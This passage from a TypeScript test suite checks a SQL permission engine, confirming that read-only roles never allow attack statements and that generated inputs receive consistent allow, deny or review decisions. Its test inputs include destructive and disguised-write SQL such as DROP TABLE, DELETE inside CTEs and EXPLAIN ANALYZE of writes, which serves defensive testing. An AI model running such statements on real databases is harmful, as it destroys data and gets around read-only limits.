  const viaAlias = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['read'] }] }]);
  const withSession = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select', 'show', 'set', 'transaction'] }] }]);

  for (const sql of ATTACKS) {
    test(JSON.stringify(sql), () => {
      for (const [name, e] of [
        ['select', strict],
        ['read', viaAlias],
        ['select+set+transaction', withSession],
      ] as const) {
        const all = e.decideAll(ID, 'ci', 'appdb', sql);
        assert.notEqual(all.decision.effect, 'allow', `${name}: ${all.decision.rule}: ${all.decision.reason}`);
        // decide() on each statement's own action agrees.
        for (const s of all.statements) {
          if (s.decision.effect !== 'allow') continue;
          assert.equal(e.decide(ID, 'ci', sqlAction('appdb', s.text, s.facts)).effect, 'allow');
        }
      }
    });
  }

  test('the corpus is not vacuous: plain reads are allowed by the same engines', () => {
    for (const sql of [
      'SELECT * FROM t WHERE id = $1',
      'SELECT count(*), lower(name), now() FROM t GROUP BY 2',
      'WITH x AS (SELECT * FROM t) SELECT * FROM x JOIN u USING (id)',
      "SELECT jsonb_build_object('a', 1), coalesce(null, 1), greatest(1, 2)",
      "SELECT pg_catalog.format_type(a.atttypid, a.atttypmod) FROM pg_catalog.pg_attribute a",
      'SELECT 1; SELECT 2',
    ]) {
      assert.equal(strict.decideAll(ID, 'ci', 'appdb', sql).decision.effect, 'allow', sql);
    }
  });
});

describe('properties', () => {
  const e = engine([{ role: 'ci', connection: 'appdb', rules: [{ allow: ['select'] }, { review: ['insert', 'update'] }, { deny: ['ddl'] }] }]);
  const EFFECTS = new Set(['allow', 'deny', 'review']);

  test('any string: decideAll and decide never throw; unparseable text is denied', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.string({ unit: 'grapheme' }), fc.string({ unit: 'binary' })), (s) => {
        const all = e.decideAll(ID, 'ci', 'appdb', s);
        assert.ok(EFFECTS.has(all.decision.effect));
        if (all.error !== undefined) assert.equal(all.decision.effect, 'deny');
        const d = e.decide(ID, 'ci', { connection: 'appdb', kind: 'sql', verb: 'query', objects: [], text: s });
        assert.equal(d.effect, all.decision.effect);
      }),
      { numRuns: 500 },
    );
  });

  const ident = fc.constantFrom('t', 'u', 's.t', '"Q"', 'secrets');
  const fn = fc.constantFrom('lower(x)', 'count(*)', "nextval('s')", 'pg_sleep(1)', 'now()', 'f(x)', "set_config('a','b',false)");
  const select = fc
    .tuple(fn, ident, fc.boolean(), fc.constantFrom('', ' FOR UPDATE', ' FOR SHARE'))
    .map(([f, t, where, lock]) => `SELECT ${f} FROM ${t}${where ? ' WHERE x = 1' : ''}${lock}`);
  const write = fc.tuple(fc.constantFrom('DELETE FROM', 'UPDATE', 'INSERT INTO'), ident).map(([w, t]) =>
    w === 'UPDATE' ? `UPDATE ${t} SET x = 1` : w === 'DELETE FROM' ? `DELETE FROM ${t}` : `INSERT INTO ${t} VALUES (1)`,
  );
  const statement: fc.Arbitrary<string> = fc.oneof(
    select,
    write,
    fc.tuple(fc.constantFrom('DELETE', 'UPDATE', 'INSERT'), select, ident).map(([w, s, t]) =>
      `WITH c AS (${w === 'DELETE' ? `DELETE FROM ${t}` : w === 'UPDATE' ? `UPDATE ${t} SET x = 1` : `INSERT INTO ${t} VALUES (1)`} RETURNING 1) ${s}`,
    ),
    fc.tuple(fc.constantFrom('EXPLAIN ', 'EXPLAIN ANALYZE ', 'PREPARE p AS '), fc.oneof(select, write)).map(([p, s]) => p + s),
    fc.constantFrom('DROP TABLE t', 'BEGIN READ WRITE', 'SET x = 1', 'DO $$ BEGIN END $$', 'EXECUTE p', 'COPY t TO STDOUT', 'VACUUM'),
  );

  test('generated statements: one of three effects, and allow means every verb is select', () => {
    fc.assert(
      fc.property(fc.array(statement, { minLength: 1, maxLength: 4 }), (stmts) => {
        const all = e.decideAll(ID, 'ci', 'appdb', stmts.join('; '));
        assert.ok(EFFECTS.has(all.decision.effect));
        assert.equal(all.statements.length, stmts.length);
        for (const s of all.statements) {
          assert.ok(EFFECTS.has(s.decision.effect));
          if (s.decision.effect === 'allow' && s.decision.rule === BUILTIN_RULES.sessionControl) assert.ok(['TransactionStmt', 'DeallocateStmt', 'ClosePortalStmt', 'UnlistenStmt', 'DiscardStmt', 'VariableShowStmt'].includes(s.facts.statement), s.text);
          else if (s.decision.effect === 'allow') assert.deepEqual(s.facts.verbs, ['select'], s.text);
          if (s.facts.verbs.includes('ddl')) assert.equal(s.decision.effect, 'deny', s.text);
        }
        if (all.decision.effect === 'allow') assert.ok(all.statements.every((s) => s.decision.effect === 'allow'));
      }),
      { numRuns: 400 },
    );
  });
});
